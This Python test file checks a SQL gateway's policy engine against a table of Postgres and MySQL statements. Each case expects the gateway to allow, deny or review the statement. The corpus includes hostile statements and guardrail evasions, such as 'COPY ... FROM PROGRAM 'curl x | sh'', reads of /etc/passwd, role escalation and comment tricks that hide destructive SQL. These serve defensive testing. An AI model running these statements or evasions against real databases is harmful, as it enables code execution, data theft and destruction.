"""Table-driven policy corpus (issue 5, item 7): statements in both dialects, with the decision
and the rule or guardrail id expected from a realistic policy, evasions included.

The policy is written as TOML, decoded by `gateway.config.load_config` and turned into an engine
by `Gatekeeper.from_config`, exactly as the gateway does it.
"""

from __future__ import annotations

import logging
import textwrap
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import trio

from sqlward.gateway.config import load_config
from sqlward.adapters.base import SessionContext, StatementRequest
from sqlward.audit.recorder import NullSink
from sqlward.gateway.gatekeeper import Gatekeeper
from sqlward.gateway.pipeline import Pipeline
from sqlward.policy.model import Decision, Identity, TargetInfo

PG = "postgres"
MY = "mysql"

POLICY = """
[gateway]
name = "corpus"

[[listeners]]
protocol = "postgres"
listen = "127.0.0.1:6432"

[[listeners]]
protocol = "mysql"
listen = "127.0.0.1:6433"

[[targets]]
name = "app-prod"
protocol = "postgres"
environment = "production"
dsn = "postgresql://svc@127.0.0.1:5432/app"

[[targets]]
name = "shop-prod"
protocol = "mysql"
environment = "production"
dsn = "mysql://svc@127.0.0.1:3306/shop"

[[targets]]
name = "app-staging"
protocol = "postgres"
environment = "staging"
dsn = "postgresql://svc@127.0.0.1:5432/app"

[environments.production]
default_action = "deny"
allow_unparsed = false

[environments.staging]
default_action = "allow"

[guardrails.drop-table]
environments = ["production"]

[guardrails.drop-database]
environments = ["production"]

[guardrails.truncate]
environments = ["production"]

[guardrails.delete-without-where]
environments = ["production"]

[guardrails.update-without-where]
environments = ["production"]

[guardrails.where-always-true]
environments = ["production"]

[guardrails.grant-revoke]
environments = ["production"]

[guardrails.role-and-user-management]
environments = ["production"]

[guardrails.identity-escalation]
environments = ["production"]

[guardrails.multi-statement]
environments = ["production"]
max_statements = 2

[guardrails.file-and-program-access]
environments = ["production"]

[guardrails.writes-disguised-as-reads]
environments = ["production"]

[guardrails.select-without-limit]
environments = ["production"]
action = "review"
approvers = ["group:dba"]
tables = ["users"]

[[rules]]
id = "payroll-only"
tables = ["payroll.*"]
action = "deny"
message = "payroll tables are reserved to the payroll team"

[[rules]]
id = "review-ddl"
operations = ["create", "alter", "drop"]
environments = ["production"]
action = "review"
approvers = ["group:dba"]

[[rules]]
id = "dba-writes"
operations = ["insert", "update", "delete", "copy"]
groups = ["dba"]
action = "allow"

[[rules]]
id = "reads"
operations = ["select", "show", "use", "set", "explain", "begin", "commit", "rollback", "prepare"]
action = "allow"
"""

ALICE = Identity(subject="alice", groups=("dba",))
BOB = Identity(subject="bob", groups=("analysts",))


class Policy(NamedTuple):
    """The corpus is judged by the statement pipeline, as a live session's statements are."""

    gatekeeper: Gatekeeper
    targets: dict[str, TargetInfo]

    def decide(self, sql: str, dialect: str, who: Identity = ALICE, target: str = "") -> Decision:
        name = target or ("app-prod" if dialect == PG else "shop-prod")
        info = self.targets[name]
        resolved = self.gatekeeper.resolve_target(info.name, MY if dialect == MY else PG)
        assert resolved is not None
        ctx = SessionContext(self.gatekeeper.recorder.scope("corpus"), offline=True)
        ctx.set_identity(who)
        ctx.target = resolved
        request = StatementRequest(sql=sql, dialect=MY if dialect == MY else PG, schema=info.database if dialect == MY else "")
        return trio.run(Pipeline(self.gatekeeper).judge, ctx, request).decision


def build_policy(directory: Path) -> Policy:
    path = directory / "sqlward.toml"
    path.write_text(textwrap.dedent(POLICY))
    config = load_config(str(path), env={})
    gatekeeper = Gatekeeper.from_config(config, NullSink())
    targets = {}
    for name, proto in (("app-prod", PG), ("shop-prod", MY), ("app-staging", PG)):
        target = gatekeeper.resolve_target(name, proto)
        assert target is not None
        targets[name] = target.info
    return Policy(gatekeeper, targets)


@pytest.fixture(scope="module")
def policy(tmp_path_factory: pytest.TempPathFactory) -> Policy:
    return build_policy(tmp_path_factory.mktemp("corpus"))


@pytest.fixture(autouse=True)
def _quiet_sqlglot(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.ERROR, logger="sqlglot")


def bug(reason: str) -> Any:
    return pytest.mark.xfail(strict=True, reason=f"BUG: {reason}")


class Case(NamedTuple):
    dialect: str
    sql: str
    action: str  # allow | deny | review
    rule: str  # rule or guardrail id (for allow: the allowing rule ids, comma-joined)
    who: Identity = ALICE
    target: str = ""


D, R, A = "deny", "review", "allow"

CORPUS: list[Any] = [
    # ------------------------------------------------ WHERE that holds for every row (per text)
    Case(PG, "DELETE FROM orders WHERE 1=1", D, "where-always-true"),
    Case(PG, "DELETE FROM orders WHERE 1=2", A, "dba-writes"),
    Case(PG, "delete from orders where id > 0 or true", D, "where-always-true"),
    Case(PG, "UPDATE orders SET a = 1 WHERE 'on' = 'on' /* looks bounded */", D, "where-always-true"),
    Case(PG, "UPDATE orders SET a = 1 WHERE 'on' = 'off' OR id = 4", A, "dba-writes"),
    Case(PG, "WITH d AS (DELETE FROM orders WHERE TRUE RETURNING *) SELECT * FROM d", D, "where-always-true"),
    Case(MY, "UPDATE orders SET a = 1 WHERE 1", D, "where-always-true"),
    Case(MY, "UPDATE orders SET a = 1 WHERE 0", A, "dba-writes"),
    Case(MY, "DELETE FROM orders WHERE id = id LIMIT 5", D, "where-always-true"),
    Case(MY, "DELETE FROM `orders` WHERE 2 > 1", D, "where-always-true"),
    # ---------------------------------------------------------------- DROP TABLE (+ evasions)
    Case(PG, "DROP TABLE t", D, "drop-table"),
    Case(PG, "drop table t", D, "drop-table"),
    Case(PG, "DrOp   TaBlE\n\t t", D, "drop-table"),
    Case(PG, "DROP/**/TABLE t", D, "drop-table"),
    Case(PG, "-- x\nDROP TABLE t", D, "drop-table"),
    Case(PG, "/* a */ DROP TABLE t", D, "drop-table"),
    Case(PG, "DROP TABLE t -- trailing", D, "drop-table"),
    Case(PG, "DROP /* mid */ TABLE /* x */ t /* end */", D, "drop-table"),
    Case(PG, "/* nested /* comment */ still */ DROP TABLE t", D, "drop-table"),
    Case(PG, 'DROP TABLE "public"."users"', D, "drop-table"),
    Case(PG, "DROP TABLE IF EXISTS public.users CASCADE", D, "drop-table"),
    Case(PG, "SELECT 1; /* */ DROP TABLE t", D, "drop-table"),
    Case(PG, "SELECT 1; -- c\nDROP TABLE t", D, "drop-table"),
    Case(MY, "DROP TABLE t", D, "drop-table"),
    Case(MY, "DROP TABLE `db`.`users`", D, "drop-table"),
    Case(MY, "/*! DROP TABLE t */", D, "drop-table"),
    Case(MY, "/*!50000 DROP TABLE t */", D, "drop-table"),
    Case(MY, "DROP/**/TABLE t", D, "drop-table"),
    Case(MY, "# x\nDROP TABLE t", D, "drop-table"),
    Case(MY, "-- x\nDROP TABLE t", D, "drop-table"),
    Case(MY, "SELECT 1; /* */ DROP TABLE t", D, "drop-table"),
    Case(MY, "drop temporary table if exists t", D, "drop-table"),
    Case(MY, "DROP /*!50000 TABLE */ t", D, "drop-table"),
    # safe variants
    Case(PG, "DROP VIEW v", R, "review-ddl"),
    Case(PG, "SELECT 'DROP TABLE t'", A, "reads"),
    Case(PG, "SELECT 1 -- DROP TABLE t", A, "reads"),
    Case(PG, "SELECT /* DROP TABLE t */ 1", A, "reads"),
    Case(MY, "SELECT /* DROP TABLE t */ 1", A, "reads"),
    Case(MY, "SELECT 1 # ; DROP TABLE t", A, "reads"),
    Case(MY, "DROP VIEW v", R, "review-ddl"),
    Case(PG, "DROP TABLE t", A, "default", target="app-staging"),
    # ---------------------------------------------------------------- DROP DATABASE / SCHEMA
    Case(PG, "DROP SCHEMA s CASCADE", D, "drop-database"),
    Case(PG, "DROP DATABASE app", D, "drop-database"),
    Case(PG, "/**/drop/**/schema/**/if exists a, b", D, "drop-database"),
    Case(MY, "DROP DATABASE shop", D, "drop-database"),
    Case(MY, "DROP SCHEMA IF EXISTS `shop`", D, "drop-database"),
    Case(MY, "/*! DROP DATABASE shop */", D, "drop-database"),
    Case(PG, "CREATE SCHEMA s", R, "review-ddl"),
    Case(MY, "CREATE DATABASE shop2", R, "review-ddl"),
    # ---------------------------------------------------------------- TRUNCATE
    Case(PG, "TRUNCATE t", D, "truncate"),
    Case(PG, "truncate table t", D, "truncate"),
    Case(PG, "TRUNCATE ONLY public.t RESTART IDENTITY", D, "truncate"),
    Case(PG, "/* x */ TRUNCATE \"public\".\"users\"", D, "truncate"),
    Case(PG, "SELECT 1; TRUNCATE t", D, "truncate"),
    Case(MY, "TRUNCATE TABLE t", D, "truncate"),
    Case(MY, "TRUNCATE `shop`.`t`", D, "truncate"),
    Case(MY, "/*!40000 TRUNCATE t */", D, "truncate"),
    Case(PG, "DELETE FROM t WHERE id = 1", A, "dba-writes"),
    Case(MY, "DELETE FROM t WHERE id = 1", A, "dba-writes"),
    # ---------------------------------------------------------------- DELETE without WHERE
    Case(PG, "DELETE FROM t", D, "delete-without-where"),
    Case(PG, "delete from t", D, "delete-without-where"),
    Case(PG, "DELETE\n\tFROM\n\tt", D, "delete-without-where"),
    Case(PG, "DELETE FROM public.users", D, "delete-without-where"),
    Case(PG, 'DELETE FROM "public"."users"', D, "delete-without-where"),
    Case(PG, "/* a */ DELETE FROM t", D, "delete-without-where"),
    Case(PG, "-- x\nDELETE FROM t", D, "delete-without-where"),
    Case(PG, "DELETE/**/FROM/**/t", D, "delete-without-where"),
    Case(PG, "DELETE FROM t -- WHERE id = 1", D, "delete-without-where"),
    Case(PG, "DELETE FROM t /* WHERE id = 1 */", D, "delete-without-where"),
    Case(PG, "DELETE FROM t RETURNING *", D, "delete-without-where"),
    Case(PG, "DELETE FROM ONLY t", D, "delete-without-where"),
    Case(PG, "DELETE FROM t USING u", D, "delete-without-where"),
    Case(PG, "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", D, "delete-without-where"),
    Case(PG, "with x as (delete from t returning *) select * from x", D, "delete-without-where"),
    Case(PG, "WITH a AS (SELECT 1), x AS (DELETE FROM t RETURNING *) SELECT * FROM x", D, "delete-without-where"),
    Case(PG, "EXPLAIN ANALYZE DELETE FROM t", D, "delete-without-where"),
    Case(PG, "EXPLAIN (ANALYZE) DELETE FROM t", D, "delete-without-where"),
    Case(PG, "EXPLAIN DELETE FROM t", D, "delete-without-where"),
    Case(PG, "SELECT 1; /* */ DELETE FROM t", D, "delete-without-where"),
    Case(PG, "PREPARE s AS DELETE FROM t", D, "delete-without-where"),
    Case(MY, "DELETE FROM t", D, "delete-without-where"),
    Case(MY, "DELETE FROM `shop`.`users`", D, "delete-without-where"),
    Case(MY, "DELETE FROM t LIMIT 10", D, "delete-without-where"),
    Case(MY, "DELETE FROM t ORDER BY id LIMIT 5", D, "delete-without-where"),
    Case(MY, "/*! DELETE FROM t */", D, "delete-without-where"),
    Case(MY, "/* a */ DELETE FROM t", D, "delete-without-where"),
    Case(MY, "# a\nDELETE FROM t", D, "delete-without-where"),
    Case(MY, "SELECT 1; /* */ DELETE FROM t", D, "delete-without-where"),
    Case(MY, "DELETE FROM t # WHERE id = 1", D, "delete-without-where"),
    Case(MY, "DELETE FROM t /*!99999 WHERE id = 1 */", D, "delete-without-where"),
    Case(MY, "DELETE FROM t /*!50000 WHERE id = 1 */", A, "dba-writes"),
    Case(MY, "DELETE FROM t /*M!999999 WHERE id = 1 */", D, "delete-without-where"),
    Case(MY, "UPDATE t SET a = 1 /*!99999 WHERE id = 1 */", D, "update-without-where"),
    Case(MY, "ANALYZE DELETE FROM users", D, "writes-disguised-as-reads"),
    Case(MY, "DELETE users FROM users", D, "delete-without-where"),
    Case(MY, "UPDATE users, t SET users.a = 1", D, "update-without-where"),
    Case(MY, "UPDATE users JOIN t ON users.id = t.id SET users.a = 1", D, "update-without-where"),
    Case(MY, "DELETE IGNORE FROM users", D, "unparseable"),
    Case(PG, "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", D, "delete-without-where"),
    Case(PG, "SELECT * FROM (WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x) y", D, "delete-without-where"),
    Case(PG, "CREATE TABLE x AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", D, "delete-without-where"),
    Case(PG, "DO $$ BEGIN DELETE FROM users; END $$", D, "unparseable"),
    # safe variants
    # an allow rule must cover every operation: the subquery's select is not in dba-writes
    Case(PG, "DELETE FROM t WHERE id IN (SELECT id FROM u)", D, "default"),
    Case(PG, 'DELETE FROM "public"."users" WHERE id = 1', A, "dba-writes"),
    Case(PG, "DELETE FROM t WHERE id = 1", D, "default", who=BOB),
    Case(MY, "DELETE FROM t WHERE id = 1 LIMIT 1", A, "dba-writes"),
    Case(MY, "DELETE FROM `shop`.`users` WHERE id = 1", A, "dba-writes"),
    Case(PG, "DELETE FROM t", A, "default", who=BOB, target="app-staging"),
    Case(PG, "DELETE FROM t", A, "dba-writes", target="app-staging"),
    # ---------------------------------------------------------------- UPDATE without WHERE
    Case(PG, "UPDATE t SET a = 1", D, "update-without-where"),
    Case(PG, "update t set a=1", D, "update-without-where"),
    Case(PG, '/* x */ UPDATE "public"."users" SET a = 1', D, "update-without-where"),
    Case(PG, "UPDATE/**/t/**/SET a = 1", D, "update-without-where"),
    Case(PG, "-- x\nUPDATE t SET a = 1", D, "update-without-where"),
    Case(PG, "UPDATE t SET a = 1 FROM u", D, "update-without-where"),
    Case(PG, "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u", D, "update-without-where"),
    Case(PG, "EXPLAIN ANALYZE UPDATE t SET a = 1", D, "update-without-where"),
    Case(PG, "SELECT 1; /* */ UPDATE t SET a = 1", D, "update-without-where"),
    Case(MY, "UPDATE t SET a = 1", D, "update-without-where"),
    Case(MY, "UPDATE `shop`.`users` SET a = 1 LIMIT 5", D, "update-without-where"),
    Case(MY, "UPDATE t SET a = 1 ORDER BY id", D, "update-without-where"),
    Case(MY, "/*! UPDATE t SET a = 1 */", D, "update-without-where"),
    Case(MY, "/* a */ update T set A = 1", D, "update-without-where"),
    Case(PG, "UPDATE t SET a = 1 WHERE id = 2", A, "dba-writes"),
    Case(PG, "UPDATE t SET a = 1 FROM u WHERE u.id = t.id", A, "dba-writes"),
    Case(MY, "UPDATE t SET a = 1 WHERE id = 2", A, "dba-writes"),
    Case(MY, "UPDATE `shop`.`users` SET a = 1 WHERE id = 2", A, "dba-writes"),
    Case(PG, "UPDATE t SET a = 1 WHERE id = 2", D, "default", who=BOB),
    # ---------------------------------------------------------------- writes disguised as reads
    Case(PG, "WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x", D, "writes-disguised-as-reads"),
    Case(PG, "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", D, "writes-disguised-as-reads"),
    Case(PG, "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", D, "writes-disguised-as-reads"),
    Case(PG, "explain analyze insert into t values (1)", D, "writes-disguised-as-reads"),
    Case(PG, "SELECT * INTO newt FROM t", D, "writes-disguised-as-reads"),
    Case(PG, "SELECT * INTO TEMP newt FROM t", D, "writes-disguised-as-reads"),
    Case(PG, "CREATE TABLE x AS SELECT * FROM t", D, "writes-disguised-as-reads"),
    Case(PG, "/* x */ create table x as select * from t", D, "writes-disguised-as-reads"),
    Case(MY, "CREATE TABLE x AS SELECT * FROM t", D, "writes-disguised-as-reads"),
    Case(MY, "CREATE TABLE x SELECT * FROM t", D, "writes-disguised-as-reads"),
    Case(PG, "EXPLAIN SELECT * FROM t", A, "reads"),
    Case(PG, "EXPLAIN ANALYZE SELECT * FROM t", A, "reads"),
    Case(PG, "WITH x AS (SELECT * FROM t) SELECT * FROM x", A, "reads"),
    Case(PG, "CREATE TABLE x (a int)", R, "review-ddl"),
    Case(MY, "CREATE TABLE x (a int)", R, "review-ddl"),
    Case(MY, "SELECT a INTO @x FROM t", A, "reads"),
    # ---------------------------------------------------------------- file and program access
    Case(PG, "COPY t TO PROGRAM 'gzip > /tmp/x'", D, "file-and-program-access"),
    Case(PG, "COPY t FROM PROGRAM 'curl x | sh'", D, "file-and-program-access"),
    Case(PG, "copy t from '/etc/passwd'", D, "file-and-program-access"),
    Case(PG, "COPY (SELECT * FROM t) TO '/tmp/out'", D, "file-and-program-access"),
    Case(PG, "/* x */ COPY t TO PROGRAM 'x'", D, "file-and-program-access"),
    Case(PG, "SELECT pg_read_file('/etc/passwd')", D, "file-and-program-access"),
    Case(PG, "select PG_READ_FILE('/etc/passwd')", D, "file-and-program-access"),
    Case(PG, "SELECT pg_catalog.pg_read_file('/etc/passwd')", D, "file-and-program-access"),
    Case(PG, 'SELECT "pg_read_file"(\'/etc/passwd\')', D, "file-and-program-access"),
    Case(PG, "SELECT lo_import('/etc/passwd')", D, "file-and-program-access"),
    Case(PG, "SELECT * FROM pg_ls_dir('.')", D, "file-and-program-access"),
    Case(PG, "SELECT 1; SELECT pg_read_binary_file('/etc/passwd')", D, "file-and-program-access"),
    Case(MY, "LOAD DATA INFILE '/x' INTO TABLE t", D, "file-and-program-access"),
    Case(MY, "load data infile '/x' into table t", D, "file-and-program-access"),
    Case(MY, "LOAD DATA LOCAL INFILE '/x' INTO TABLE t", D, "file-and-program-access"),
    Case(MY, "SELECT * FROM t INTO OUTFILE '/tmp/x'", D, "file-and-program-access"),
    Case(MY, "SELECT * INTO OUTFILE '/tmp/x' FROM t", D, "file-and-program-access"),
    Case(MY, "SELECT * FROM t INTO DUMPFILE '/tmp/x'", D, "file-and-program-access"),
    Case(MY, "SELECT LOAD_FILE('/etc/passwd')", D, "file-and-program-access"),
    Case(PG, "COPY t TO STDOUT", A, "dba-writes"),
    Case(PG, "COPY t FROM STDIN", A, "dba-writes"),
    Case(PG, "SELECT pg_size_pretty(1)", A, "reads"),
    Case(MY, "SELECT LENGTH('/etc/passwd')", A, "reads"),
    # ---------------------------------------------------------------- identity escalation
    Case(PG, "SET ROLE admin", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "set role admin", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET LOCAL ROLE admin", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET SESSION ROLE admin", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET SESSION AUTHORIZATION bob", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "set session authorization default", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET/**/ROLE admin", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "RESET ROLE", D, "identity-escalation"),
    Case(PG, "SELECT set_config('role', 'admin', false)", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SELECT 1; SET ROLE admin", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET role = 'admin'", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET SESSION role TO admin", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SELECT pg_catalog.set_config('role', 'admin', false)", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET session_authorization = 'bob'", D, "identity-tampering"),  # built-in, before the guardrail
    Case(PG, "SET session_authorization TO bob", D, "identity-tampering"),  # built-in, before the guardrail
    Case(MY, "SET ROLE admin", D, "identity-escalation"),
    Case(MY, "SET ROLE ALL", D, "identity-escalation"),
    Case(MY, "/*! SET ROLE admin */", D, "identity-escalation"),
    Case(PG, "SET search_path TO app", A, "reads"),
    Case(PG, "SET statement_timeout = 1000", A, "reads"),
    Case(MY, "SET NAMES utf8mb4", A, "reads"),
    Case(PG, "SELECT current_user", A, "reads"),
    # ---------------------------------------------------------------- GRANT / REVOKE
    Case(PG, "GRANT SELECT ON t TO bob", D, "grant-revoke"),
    Case(PG, "grant all on schema s to public", D, "grant-revoke"),
    Case(PG, "REVOKE ALL ON t FROM bob", D, "grant-revoke"),
    Case(PG, "GRANT admin TO bob", D, "grant-revoke"),
    Case(PG, "/* x */ GRANT/**/SELECT ON \"public\".\"users\" TO bob", D, "grant-revoke"),
    Case(MY, "GRANT SELECT ON shop.* TO 'bob'@'%'", D, "grant-revoke"),
    Case(MY, "GRANT ALL PRIVILEGES ON *.* TO bob", D, "grant-revoke"),
    Case(MY, "/*! GRANT ALL ON *.* TO bob */", D, "grant-revoke"),
    Case(MY, "SHOW GRANTS", A, "reads"),
    Case(PG, "SELECT * FROM information_schema.role_table_grants LIMIT 5", A, "reads"),
    # ---------------------------------------------------------------- users and roles
    Case(PG, "CREATE USER u", D, "role-and-user-management"),
    Case(PG, "CREATE ROLE r LOGIN SUPERUSER", D, "role-and-user-management"),
    Case(PG, "ALTER ROLE r SUPERUSER", D, "role-and-user-management"),
    Case(PG, "DROP USER u", D, "role-and-user-management"),
    Case(PG, "/* x */ create user u with password 'p'", D, "role-and-user-management"),
    Case(MY, "CREATE USER 'u'@'%' IDENTIFIED BY 'p'", D, "role-and-user-management"),
    Case(MY, "DROP USER u", D, "role-and-user-management"),
    Case(MY, "ALTER USER u IDENTIFIED BY 'x'", D, "role-and-user-management"),
    Case(MY, "SET PASSWORD = 'x'", D, "role-and-user-management"),
    Case(MY, "/*! CREATE USER u */", D, "role-and-user-management"),
    Case(PG, "CREATE TABLE roles (a int)", R, "review-ddl"),
    Case(MY, "SELECT * FROM mysql.user LIMIT 1", A, "reads"),
    # ---------------------------------------------------------------- dynamic / prepared SQL
    Case(MY, "PREPARE s FROM 'DROP TABLE t'", D, "dynamic-sql"),
    Case(MY, "PREPARE s FROM 'SELECT 1'", D, "dynamic-sql"),
    Case(MY, "PREPARE s FROM @sql", D, "dynamic-sql"),
    Case(MY, "EXECUTE s", D, "dynamic-sql"),
    Case(MY, "EXECUTE IMMEDIATE 'DROP TABLE t'", D, "dynamic-sql"),
    Case(MY, "/* x */ prepare s from 'DELETE FROM t'", D, "dynamic-sql"),
    Case(PG, "EXECUTE s", D, "dynamic-sql"),
    Case(PG, "EXECUTE s(1)", D, "dynamic-sql"),
    Case(PG, "PREPARE s AS SELECT * FROM t WHERE id = $1", A, "reads"),
    Case(PG, "PREPARE s AS DELETE FROM t WHERE id = $1", D, "default", who=BOB),
    # ---------------------------------------------------------------- multi-statement
    Case(PG, "SELECT 1; SELECT 2; SELECT 3", D, "multi-statement"),
    Case(MY, "SELECT 1; SELECT 2; SELECT 3", D, "multi-statement"),
    Case(PG, "SELECT 1; /* ; */ SELECT 2; -- ;\nSELECT 3", D, "multi-statement"),
    Case(PG, "SELECT 1; SELECT 2", A, "reads"),
    Case(MY, "SELECT 1;", A, "reads"),
    Case(PG, "SELECT ';'", A, "reads"),
    # ---------------------------------------------------------------- rules: payroll, reads, writes
    Case(PG, "SELECT * FROM payroll.slips", D, "payroll-only"),
    Case(PG, 'SELECT * FROM "payroll"."slips"', D, "payroll-only"),
    Case(PG, "SELECT * FROM PAYROLL.SLIPS", D, "payroll-only"),
    Case(PG, "INSERT INTO t SELECT * FROM payroll.slips", D, "payroll-only"),
    Case(PG, "SELECT * FROM t WHERE id IN (SELECT id FROM payroll.slips)", D, "payroll-only"),
    Case(MY, "SELECT * FROM `payroll`.`slips`", D, "payroll-only"),
    Case(MY, "USE payroll; SELECT * FROM slips", D, "payroll-only"),
    Case(PG, "INSERT INTO t VALUES (1)", A, "dba-writes"),
    Case(PG, "INSERT INTO t VALUES (1)", D, "default", who=BOB),
    Case(MY, "INSERT INTO t VALUES (1)", A, "dba-writes"),
    Case(MY, "INSERT INTO t VALUES (1)", D, "default", who=BOB),
    Case(PG, "SELECT * FROM t", A, "reads"),
    Case(MY, "SELECT * FROM t", A, "reads"),
    Case(PG, "SELECT * FROM t", A, "reads", who=BOB),
    Case(MY, "SHOW TABLES", A, "reads"),
    Case(MY, "USE shop", A, "reads"),
    Case(PG, "BEGIN", A, "reads"),
    Case(PG, "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", D, "default"),
    # ---------------------------------------------------------------- select-without-limit (review)
    Case(PG, "SELECT * FROM users", R, "select-without-limit"),
    Case(PG, "SELECT * FROM public.users", R, "select-without-limit"),
    Case(PG, 'SELECT * FROM "public"."users"', R, "select-without-limit"),
    Case(PG, "select * from USERS", R, "select-without-limit"),
    Case(MY, "SELECT * FROM `shop`.`users`", R, "select-without-limit"),
    Case(MY, "SELECT * FROM users", R, "select-without-limit"),
    Case(PG, "TABLE users", R, "select-without-limit"),
    Case(PG, "SELECT * FROM users -- LIMIT 1", R, "select-without-limit"),
    Case(PG, "SELECT * FROM users OFFSET 0", R, "select-without-limit"),
    Case(PG, "SELECT * FROM users LIMIT ALL", R, "select-without-limit"),
    Case(PG, "SELECT * FROM users LIMIT NULL", R, "select-without-limit"),
    Case(MY, "SELECT * FROM users /*!99999 LIMIT 1 */", R, "select-without-limit"),
    Case(PG, "SELECT * FROM users LIMIT 10", A, "reads"),
    Case(PG, "SELECT * FROM users FETCH FIRST 5 ROWS ONLY", A, "reads"),
    Case(MY, "SELECT * FROM users LIMIT 1", A, "reads"),
    # ---------------------------------------------------------------- unparseable
    Case(PG, "SELECT FROM WHERE (", D, "unparseable"),
    Case(MY, "FLUSH TABLES", D, "unparseable"),
]


def _id(case: Any) -> str:
    c = case.values[0] if hasattr(case, "values") else case
    return f"{c.dialect}:{c.sql[:60]}:{c.who.subject}:{c.target or 'prod'}"


def test_corpus_is_large_and_covers_both_dialects() -> None:
    cases = [c.values[0] if hasattr(c, "values") else c for c in CORPUS]
    assert len(cases) >= 150
    assert sum(c.dialect == PG for c in cases) >= 50
    assert sum(c.dialect == MY for c in cases) >= 50
    assert {c.action for c in cases} == {A, D, R}


@pytest.mark.parametrize("case", CORPUS, ids=_id)
def test_corpus(policy: Policy, case: Case) -> None:
    d = policy.decide(case.sql, case.dialect, case.who, case.target)
    assert (d.action, d.rule_id) == (case.action, case.rule), d.message
    if d.action != A:
        assert d.message  # the adapters add the rule id (pg: DETAIL "sqlward rule: ID")
